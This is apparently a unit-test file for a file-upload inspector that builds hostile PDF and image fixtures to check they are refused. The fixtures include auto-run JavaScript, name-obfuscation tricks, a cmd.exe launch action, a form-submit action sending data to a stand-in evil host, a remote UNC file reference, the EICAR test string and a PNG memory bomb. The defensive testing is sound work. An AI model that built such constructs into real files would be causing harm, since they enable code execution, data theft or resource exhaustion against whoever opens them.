import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import { inspectFile } from "#app/files/inspect.server.ts";
import { handMadePdf, onePagePdf } from "#tests/unit/evaluation/support/hostile.ts";
import { pngBomb } from "#tests/unit/evaluation/support/picture-bombs.ts";

const SCRIPT = "This PDF runs a script, which is not accepted. Print it to a new PDF, and upload that.";
const LAUNCH = "This PDF starts another program, which is not accepted. Print it to a new PDF, and upload that.";
const ATTACHED =
  "This PDF carries another file inside it, which is not accepted. Print it to a new PDF, and upload that.";
const SENDS =
  "This PDF sends what is entered in it to somebody, which is not accepted. Print it to a new PDF, and upload that.";
const ELSEWHERE = "This PDF opens another file, which is not accepted. Print it to a new PDF, and upload that.";
const PAGE = "/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]";

async function refusal(bytes: Buffer, name = "a.pdf"): Promise<string | undefined> {
  const result = await inspectFile({ name, bytes }, ["pdf", "jpg", "png"]);
  return "refusal" in result ? result.refusal : undefined;
}

/** A PDF of one page whose catalogue says more, with further objects from number 4 on. */
function pdfWith(catalogue: string, ...more: string[]): Buffer {
  const pages = [{ dictionary: "/Type /Pages /Kids [3 0 R] /Count 1" }, { dictionary: PAGE }];
  const others = more.map((dictionary) => ({ dictionary }));
  return handMadePdf([{ dictionary: `/Type /Catalog /Pages 2 0 R ${catalogue}` }, ...pages, ...others]);
}

/** The same, but the further object stands packed in an object stream. */
function packed(object: string, catalogue: string, type = "/Type /ObjStm"): Buffer {
  const inside = Buffer.from(`9 0 ${object}`, "latin1");
  const stream = { dictionary: `${type} /N 1 /First 4 /Filter /FlateDecode`, stream: deflateSync(inside) };
  const pages = [{ dictionary: "/Type /Pages /Kids [3 0 R] /Count 1" }, { dictionary: PAGE }];
  return handMadePdf([{ dictionary: `/Type /Catalog /Pages 2 0 R ${catalogue}` }, ...pages, stream]);
}

test.each([
  ["a script when it is opened", pdfWith("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), SCRIPT],
  ["a script under a name written in numbers", pdfWith("/OpenAction << /S /J#61vaScript /J#53 4 0 R >>"), SCRIPT],
  ["scripts by name", pdfWith("/Names << /JavaScript 4 0 R >>", "/Names []"), SCRIPT],
  ["a script packed into an object stream", packed("<< /S /JavaScript /JS (x) >>", "/OpenAction 9 0 R"), SCRIPT],
  ["the same in a stream that does not say what it is", packed("<< /JS (x) >>", "/OpenAction 9 0 R", ""), SCRIPT],
  ["a program that it starts", pdfWith("/OpenAction 4 0 R", "/S /Launch /F (cmd.exe)"), LAUNCH],
  ["a file inside", pdfWith("/Names << /EmbeddedFiles 4 0 R >>", "/Names [(a) 5 0 R]", "/EF << /F 6 0 R >>"), ATTACHED],
  ["a button that sends what is entered", pdfWith("", "/S /SubmitForm /F (https://evil.example)"), SENDS],
  [
    "a file on another machine",
    pdfWith("/OpenAction 4 0 R", "/S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit]"),
    ELSEWHERE,
  ],
  ["a form in XML", pdfWith("/AcroForm << /XFA 4 0 R >>", "/Type /Form"), SCRIPT],
  ["a file at a note", pdfWith("", "/Type /Annot /Subtype /FileAttachment /FS 5 0 R"), ATTACHED],
  ["a packed file", packed("<< /Type /Filespec /EF << /F 8 0 R >> >>", ""), ATTACHED],
])("a PDF with %s is refused, and told why", async (_, bytes, message) => {
  expect(await refusal(bytes)).toBe(message);
});

test("a script that a later version of the file hides is still seen", async () => {
  const bytes = pdfWith("/OpenAction 4 0 R", "/S /JavaScript /JS (x)");
  const later = Buffer.from("\n4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n");
  const trailer = bytes.lastIndexOf("xref\n0 ");
  expect(await refusal(Buffer.concat([bytes.subarray(0, trailer), later, bytes.subarray(trailer)]))).toBeDefined();
});

test("a page that speaks of JavaScript and of launches is a page", async () => {
  const text = Buffer.from("BT /F1 12 Tf (/JavaScript /Launch /EmbeddedFiles /JS << /S /JavaScript >>) Tj ET");
  expect(await refusal(onePagePdf(text))).toBeUndefined();
});

test("what only looks like a PDF is refused", async () => {
  const damaged = "This PDF is damaged or incomplete. Save it again and try once more.";
  expect(await refusal(Buffer.from("%PDF-1.4\nxref\nstartxref\n9\n%%EOF\n"))).toBe(damaged);
  expect(await refusal(handMadePdf([{ dictionary: "/Type /Catalog" }]))).toBe(damaged);
});

test("the file by which virus scanners are tried is refused wherever it stands", async () => {
  const eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAND", "ARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");
  const message = /^A virus was found in this file/;
  expect(await refusal(onePagePdf(Buffer.from(`BT (${eicar}) Tj ET`)))).toMatch(message);
});

test("a small picture that takes much memory is refused by its header", async () => {
  const bomb = pngBomb(7_000, 7_000, true);
  expect(bomb.length).toBeLessThan(1_000_000);
  const answers = await Promise.all(Array.from({ length: 4 }, () => refusal(bomb, "a.png")));
  expect(answers).toEqual(Array(4).fill("This picture has too many pixels. Save it smaller and try again."));
});
